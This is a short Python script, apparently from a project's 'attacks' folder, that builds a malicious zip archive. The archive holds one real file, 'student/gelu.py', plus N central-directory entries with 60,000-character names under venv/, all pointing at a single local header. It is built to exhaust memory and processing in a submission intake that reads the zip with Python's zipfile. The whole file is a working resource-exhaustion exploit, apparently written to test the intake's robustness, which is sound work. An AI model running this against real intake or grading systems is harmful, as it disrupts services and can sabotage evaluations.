"""A zip whose central directory holds N entries with 60,000-character names under venv/ (skipped by intake), all
pointing at one local header: the file is about as big as its central directory, which zipfile reads whole.
usage: python attacks/cd_names.py OUT.zip N GELU_SOURCE"""
import struct, sys, zlib
out, n, src = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "rb").read()
name = b"student/gelu.py"
crc = zlib.crc32(src)
local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(src), len(src), len(name), 0) + name + src
def cd(fname, size, c, offset):
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, c, size, size, len(fname), 0, 0,
                       0, 0, 0o100644 << 16, offset) + fname
entries = [cd(name, len(src), crc, 0)] + [cd(b"venv/%06d" % i + b"n" * 60000, 0, 0, 0) for i in range(n)]
body = b"".join(entries)
eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(body), len(local), 0)
with open(out, "wb") as f:
    f.write(local + body + eocd)
